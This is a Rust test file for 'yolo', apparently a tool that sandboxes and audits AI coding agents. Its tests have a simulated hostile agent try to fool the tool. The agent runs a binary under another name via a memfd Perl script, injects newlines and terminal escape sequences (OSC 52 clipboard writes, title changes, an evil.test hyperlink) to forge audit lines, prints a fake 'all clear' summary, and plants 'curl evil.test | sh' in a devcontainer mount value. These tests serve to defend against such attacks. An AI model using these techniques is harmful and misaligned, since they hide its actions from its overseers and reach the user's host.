//! What yolo shows under attack (issue 23, items 7, 16, 17): root in the agent container tries
//! to make the record lie (a program under another's name, a newline in a path that forges an
//! audit line, a summary of its own) or to reach the host through the terminal (the clipboard,
//! the title, queries). Each test fails if its protection breaks.

use crate::support::*;
use serde_json::Value;
use std::time::{Duration, Instant};

/// `yolo <args>` on a pseudo-terminal (`script`), as a person runs it: its exit code and all
/// the terminal received, byte for byte.
fn on_a_terminal(t: &Test, args: &str) -> (Option<i32>, Vec<u8>) {
    let yolo = env!("CARGO_BIN_EXE_yolo");
    let cmd = t.command(&[]);
    let envs: Vec<(std::ffi::OsString, std::ffi::OsString)> = cmd
        .get_envs()
        .filter_map(|(k, v)| v.map(|v| (k.to_owned(), v.to_owned())))
        .collect();
    let out = std::process::Command::new("script")
        .args(["-qec", &format!("{yolo} {args}"), "/dev/null"])
        .current_dir(&t.workspace)
        .envs(envs)
        .stdin(std::process::Stdio::null())
        .output()
        .expect("script (bsdutils)");
    (out.status.code(), out.stdout)
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

/// The exec record whose argv ends with `marker`, waiting for it.
#[track_caller]
fn exec_of(t: &Test, marker: &str) -> Value {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let found = t.events().into_iter().find(|e| {
            e["kind"] == "exec"
                && e["argv"]
                    .as_array()
                    .and_then(|a| a.last())
                    .is_some_and(|a| a == marker)
        });
        if let Some(e) = found {
            return e;
        }
        assert!(Instant::now() < deadline, "no exec record of {marker}");
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// memfd_create (x86_64: 319, aarch64: 279), /bin/echo copied in, and run from it as
/// `/usr/bin/true`: perl is in debian's slim image, python is not.
const MEMFD_PL: &str = r#"
my $nr = `uname -m` =~ /aarch64/ ? 279 : 319;
my $name = "payload";
my $fd = syscall($nr, $name, 0); die "memfd: $!" if $fd < 0;
open(my $o, ">&=", $fd) or die "fd: $!";
open(my $i, "<", "/bin/echo") or die; binmode $i; local $/; my $d = <$i>;
syswrite($o, $d) == length($d) or die "write: $!";
exec { "/proc/self/fd/$fd" } "/usr/bin/true", "from-memfd" or die "exec: $!";
"#;

#[test]
fn audit_and_report_show_the_binary_that_ran_under_another_name() {
    let t = Test::new();
    t.devcontainer(r#"{"image": "debian:bookworm-slim"}"#);
    t.file("attack/memfd.pl", MEMFD_PL);
    t.up(&[]);
    // echo run under the name of true, from its file and from a memfd.
    t.yolo(&[
        "exec",
        "--",
        "bash",
        "-c",
        "exec -a /usr/bin/true /bin/echo renamed-binary",
    ])
    .ok()
    .assert_stdout("renamed-binary\n");
    t.yolo(&["exec", "--", "perl", "attack/memfd.pl"])
        .ok()
        .assert_stdout("from-memfd\n");
    let renamed = exec_of(&t, "renamed-binary");
    assert_eq!(renamed["exe"], "/usr/bin/echo", "{renamed}");
    let memfd = exec_of(&t, "from-memfd");
    assert_eq!(memfd["exe"], "/memfd:payload (deleted)", "{memfd}");

    let audit = t.yolo(&["audit", "--kind", "exec"]).ok().stdout();
    let line = |marker: &str| {
        audit
            .lines()
            .find(|l| l.ends_with(marker))
            .unwrap_or_else(|| panic!("no line of {marker}:\n{audit}"))
            .to_string()
    };
    let renamed = line("/usr/bin/true renamed-binary");
    assert!(
        renamed.contains(" exe=/usr/bin/echo in /workspaces/repo: /usr/bin/true renamed-binary"),
        "{renamed}"
    );
    let memfd = line("/usr/bin/true from-memfd");
    assert!(
        memfd.contains(" exe='/memfd:payload (deleted)' in /workspaces/repo: /usr/bin/true"),
        "{memfd}"
    );

    let page = t.yolo(&["report"]).ok().stdout();
    let html = std::fs::read_to_string(page.trim()).expect("the report's page");
    assert!(
        html.contains("(ran <code>/memfd:payload (deleted)</code>)")
            && html.contains("(ran <code>/usr/bin/echo</code>)"),
        "{html}"
    );
}

#[test]
fn a_newline_or_escape_in_cwd_or_argv_cannot_forge_an_audit_line() {
    let t = Test::new();
    t.devcontainer(r#"{"image": "debian:bookworm-slim"}"#);
    t.up(&[]);
    // A folder and an argument that end the line and print one that looks like yolo's, in
    // colour, with a clipboard write and a screen clear for good measure.
    let forged = r#"d="$(printf '/tmp/x\n2026-01-01 00:00:00.000 exec          pid=1 uid=0 exit=0 0ms in /workspaces/repo: \033[32mtrue\033[0m')"
mkdir -p "$d" && cd "$d" && /bin/echo "$(printf 'a\n2026-01-01 00:00:00.000 notice        all clear\033]52;c;ZXZpbA==\007\033[2J')" forged-argv"#;
    t.yolo(&["exec", "--", "sh", "-c", forged]).ok();
    exec_of(&t, "forged-argv");

    let json = t.yolo(&["audit", "--json"]).ok().stdout();
    let text = t.yolo(&["audit"]).ok().stdout();
    assert_eq!(
        text.lines().count(),
        json.lines().count(),
        "one line per event:\n{text}"
    );
    let stamp = |l: &str| {
        let b = l.as_bytes();
        b.len() > 24
            && b[..23].iter().enumerate().all(|(i, c)| match i {
                4 | 7 => *c == b'-',
                10 => *c == b' ',
                13 | 16 => *c == b':',
                19 => *c == b'.',
                _ => c.is_ascii_digit(),
            })
    };
    for line in text.lines() {
        assert!(stamp(line), "a line that is no event's: {line:?}\n{text}");
        assert!(!line.contains('\u{1b}'), "a raw escape: {line:?}");
    }
    let line = text.lines().find(|l| l.ends_with("forged-argv")).unwrap();
    assert!(
        line.contains("in /tmp/x\\n2026-01-01 00:00:00.000 exec ")
            && line.contains("\\x1b]52;c;ZXZpbA==\\x07"),
        "{line}"
    );
}

/// An agent for `yolo run` printing `script` (printf format) in pieces with pauses between, so
/// that its sequences come split over the reads of the stream.
fn printing_agent(t: &Test, pieces: &[&str], extra: &str) {
    let script: Vec<String> = pieces.iter().map(|p| format!("printf '{p}'")).collect();
    let script = script.join("; sleep 0.3; ");
    let toml = format!(
        "{extra}\n[agents.printer]\ncommand = [\"sh\", \"-c\", {}]\n",
        toml_string(&script)
    );
    t.user_config(&toml);
}

fn toml_string(s: &str) -> String {
    serde_json::to_string(s).unwrap()
}

#[test]
fn the_agent_cannot_write_the_clipboard_or_title_through_run_or_replay() {
    let t = Test::new();
    t.devcontainer(r#"{"image": "debian:bookworm-slim"}"#);
    // OSC 52 split over two reads, a title, a hyperlink, a DECRQSS and a cursor report query.
    let pieces = [
        "before \\033]5",
        "2;c;ZWNobyBwd25lZA==\\007 \\033]0;title\\007\\033]8;;https://evil.test/\\033\\\\link\\033]8;;\\033\\\\ \\033P$qm\\033\\\\\\033[6n \\033[1mbold\\033[0m after\\n",
    ];
    printing_agent(&t, &pieces, "");
    t.up(&[]);
    let (code, seen) = on_a_terminal(&t, "run printer");
    assert_eq!(code, Some(0), "{}", String::from_utf8_lossy(&seen));
    let shown = String::from_utf8_lossy(&seen);
    for attack in [
        "\u{1b}]5",
        "\u{1b}]0;",
        "\u{1b}]8;;https",
        "\u{1b}P",
        "\u{1b}[6n",
    ] {
        assert!(
            !shown.contains(attack),
            "{attack:?} reached the terminal: {shown:?}"
        );
    }
    assert!(
        shown.contains("before  link  \u{1b}[1mbold\u{1b}[0m after"),
        "{shown:?}"
    );

    // The recording keeps what the agent wrote; replay shows it escaped, `--raw` plays it.
    let replay = t.yolo(&["replay", "--speed", "100"]).ok();
    let played = replay.stdout();
    assert!(!played.contains("\u{1b}]52"), "{played:?}");
    // (The container's terminal may echo a key between the two reads, inside the sequence.)
    assert!(
        played.contains("before \\x1b]5") && played.contains("2;c;ZWNobyBwd25lZA==\\x07 "),
        "{played:?}"
    );
    assert!(replay.stderr().contains("--raw"), "{}", replay.stderr());
    let raw = t.yolo(&["replay", "--speed", "100", "--raw"]).ok().stdout();
    assert!(
        raw.contains("before \u{1b}]5") && raw.contains("2;c;ZWNobyBwd25lZA==\u{7}"),
        "{raw:?}"
    );

    // The user may let them through.
    printing_agent(&t, &pieces, "[terminal]\npass_host_sequences = true\n");
    let (_, seen) = on_a_terminal(&t, "run printer");
    let shown = String::from_utf8_lossy(&seen);
    assert!(shown.contains("\u{1b}]0;title\u{7}"), "{shown:?}");
}

#[test]
fn the_run_summary_is_yolos_last_word_after_a_reset_with_a_mark_the_agent_never_saw() {
    let t = Test::new();
    t.devcontainer(r#"{"image": "debian:bookworm-slim"}"#);
    // A fake summary, then the terminal left hidden, scrolled and on the alternate screen,
    // the cursor at the top over a prepared line.
    printing_agent(
        &t,
        &["summary of this run (mark 0badc0de):\\n  connections blocked: 0\\n\\033[?1049h\\033[8m\\033[3;4r\\033[H                    all clear"],
        "",
    );
    t.up(&[]);
    let (_, seen) = on_a_terminal(&t, "run printer");
    let shown = String::from_utf8_lossy(&seen);
    let announced = "yolo's summary after it is marked ";
    let at = shown
        .find(announced)
        .unwrap_or_else(|| panic!("no mark announced: {shown:?}"));
    let mark = &shown[at + announced.len()..][..8];
    assert!(mark.chars().all(|c| c.is_ascii_hexdigit()), "{mark:?}");
    let heading = format!("summary of this run (mark {mark}):");
    let real = find(&seen, heading.as_bytes()).expect("yolo's summary with the mark");
    let agent = find(&seen, b"all clear").expect("the agent's output");
    let fake = find(&seen, b"(mark 0badc0de)").expect("the agent's summary");
    assert!(at < fake && fake < agent, "{shown:?}");
    // After the agent's last byte: yolo's reset, the screen below cleared, then the summary.
    let reset = [b"\x1b[!p".as_slice(), b"\x1b[?1047l"].concat();
    let reset_at = find(&seen[agent..], &reset).expect("the reset") + agent;
    let clear_at = find(&seen[reset_at..], b"\r\n\x1b[J").expect("the clear") + reset_at;
    assert!(agent < reset_at && clear_at < real, "{shown:?}");
    assert!(
        find(&seen[real..], b"0badc0de").is_none() && find(&seen[real..], b"all clear").is_none()
    );
}

/// A hostile repository puts a newline and an escape sequence in a devcontainer.json value
/// that ends up in an error (the refusal of a bind mount names its source, three times): the
/// printed error shows both escaped, and none of its lines is one the repository wrote.
#[test]
fn a_newline_or_escape_in_a_config_value_cannot_forge_an_error_line() {
    let t = Test::new();
    t.devcontainer(
        r#"{"image": "debian:bookworm-slim", "mounts": ["source=/etc\nyolo: all clear; run curl evil.test | sh\u001b[2J,target=/x,type=bind"]}"#,
    );
    // Refused (declining is the default: the declined block quotes it through the same escape).
    t.user_config("[policy]\nrequests = \"refuse\"\n");
    let run = t.yolo(&["up"]).fails_with(77);
    let err = run.stderr();
    assert!(!err.contains('\x1b'), "{err:?}");
    assert!(
        err.lines()
            .all(|l| !l.trim_start().starts_with("yolo: all clear")),
        "{err}"
    );
    assert!(err.contains("/etc\\nyolo: all clear"), "{err}");
    assert!(err.contains("\\x1b[2J"), "{err}");
}
